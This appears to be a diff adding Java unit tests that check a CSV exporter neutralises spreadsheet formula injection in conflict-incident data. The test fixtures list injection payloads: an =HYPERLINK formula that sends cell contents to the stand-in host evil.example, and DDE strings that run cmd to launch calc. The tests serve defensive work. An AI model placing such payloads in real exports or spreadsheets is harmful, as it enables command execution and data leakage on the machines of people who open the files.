@@ -29,8 +29,11 @@ import mil.nga.geopackage.extension.metadata.MetadataExtension;
 import mil.nga.geopackage.features.user.FeatureDao;
 import mil.nga.geopackage.features.user.FeatureResultSet;
 import mil.nga.geopackage.features.user.FeatureRow;
+import org.incidentatlas.model.Article;
 import org.incidentatlas.model.Extraction;
 import org.incidentatlas.model.Incident;
+import org.incidentatlas.model.Place;
+import org.incidentatlas.model.PlaceKind;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -143,6 +146,59 @@ class ExportWritersTest {
         assertThat(CsvWriter.field(null)).isEmpty();
     }
 
+    @ParameterizedTest
+    @CsvSource(delimiterString = " ~> ", quoteCharacter = '`', textBlock = """
+            =HYPERLINK("http://evil.example/?"&A1;"click") ~> `"'=HYPERLINK(""http://evil.example/?""&A1;""click"")"`
+            =1+1                                           ~> '=1+1
+            +1+cmd|' /C calc'!A0                           ~> `'+1+cmd|' /C calc'!A0`
+            -2+3+cmd|' /C calc'!A0                         ~> `'-2+3+cmd|' /C calc'!A0`
+            @SUM(1+1)*cmd|' /C calc'!A0                    ~> `'@SUM(1+1)*cmd|' /C calc'!A0`
+            =cmd,with comma                                ~> `"'=cmd,with comma"`
+            -3.5                                           ~> -3.5
+            +44                                            ~> +44
+            -                                              ~> '-
+            a=b                                            ~> a=b
+            Kataib Hezbollah                               ~> Kataib Hezbollah
+            """)
+    void csvNeutralisesTextASpreadsheetWouldRunAsAFormula(String value, String expected) {
+        assertThat(CsvWriter.field(value)).isEqualTo(expected);
+    }
+
+    @Test
+    void csvNeutralisesLeadingTabAndCarriageReturnButNeverNumbers() {
+        assertThat(CsvWriter.field("\t=1+1")).isEqualTo("'\t=1+1");
+        assertThat(CsvWriter.field("\r=1+1")).isEqualTo("\"'\r=1+1\""); // CR also makes it quoted
+        assertThat(CsvWriter.field(-3.5)).isEqualTo("-3.5");
+        assertThat(CsvWriter.field(-60.0217)).isEqualTo("-60.0217");
+        assertThat(CsvWriter.field(-7)).isEqualTo("-7");
+    }
+
+    @Test
+    void csvRowsKeepNegativeCoordinatesNumericAndGuardHostileText() throws Exception {
+        Extraction x = ExportSamples.extraction();
+        Incident strike = x.incidents().get(0);
+        // a corpus can say anything: a place, a publisher and a sentence that look like formulas
+        Place manaus = new Place("gn:3663517", "-Manaus", PlaceKind.CITY, "PPLA", "BR", "04", -3.10194, -60.025, 1_598_210, 8);
+        Incident hostile = new Incident(strike.id(), strike.type(), strike.date(), manaus, 1, strike.actors(),
+                strike.fatalities(), strike.status(), strike.evidence(), strike.sources(), "=HYPERLINK(\"x\")");
+        List<Article> articles = new ArrayList<>(x.articles());
+        Article a = articles.get(0);
+        String text = "=SUM(A1:A9) rockets hit" + a.text().substring("Rockets hit Ain al-Asad".length()); // same spans
+        articles.set(0, new Article(a.id(), a.source(), a.title(), "@publisher", a.author(), a.url(), a.published(),
+                a.publishedApprox(), text, a.sentences(), a.warnings(), a.sourceOffsets()));
+        Extraction changed = new Extraction(articles, x.mentions(), List.of(hostile), List.of(), List.of());
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        new CsvWriter().write(changed, out);
+
+        List<String> row = parseCsv(out.toString(StandardCharsets.UTF_8)).get(1);
+        assertThat(row.get(6)).isEqualTo("'-Manaus");
+        assertThat(row.subList(7, 9)).containsExactly("-3.10194", "-60.025");
+        assertThat(row.get(11)).isEqualTo("'@publisher");
+        assertThat(row.get(13)).startsWith("'=SUM(A1:A9) rockets hit, a \"key\" base");
+        assertThat(row.get(14)).startsWith("id a.txt#1").contains("=HYPERLINK"); // inside the cell: inert
+        assertThat(row).noneMatch(cell -> !cell.isEmpty() && "=+@\t\r".indexOf(cell.charAt(0)) >= 0);
+    }
+
     @Test
     void csvHasExactlyTheAcledColumnsAndASidecarWithTheScope() throws Exception {
         Path csv = dir.resolve("out.csv");
@@ -239,7 +295,11 @@ class ExportWritersTest {
             assertThat(rows).hasSize(3);
             FeatureRow strike = rows.get(0);
             assertThat(strike.getValue("incident_id")).isEqualTo("a.txt#1");
-            assertThat(strike.getValue("event_date")).isEqualTo("2020-01-05");
+            // DATE and DATETIME columns come back as instants (UTC)
+            assertThat(((java.util.Date) strike.getValue("event_date")).toInstant())
+                    .isEqualTo(java.time.Instant.parse("2020-01-05T00:00:00Z"));
+            assertThat(((java.util.Date) strike.getValue("time_end")).toInstant())
+                    .isEqualTo(java.time.Instant.parse("2020-01-05T23:59:59.999Z"));
             assertThat(((Number) strike.getValue("time_precision")).intValue()).isEqualTo(1);
             assertThat(strike.getValue("actor2")).isEqualTo("Harakat Hezbollah al-Nujaba");
             mil.nga.sf.Point p = (mil.nga.sf.Point) strike.getGeometry().getGeometry();
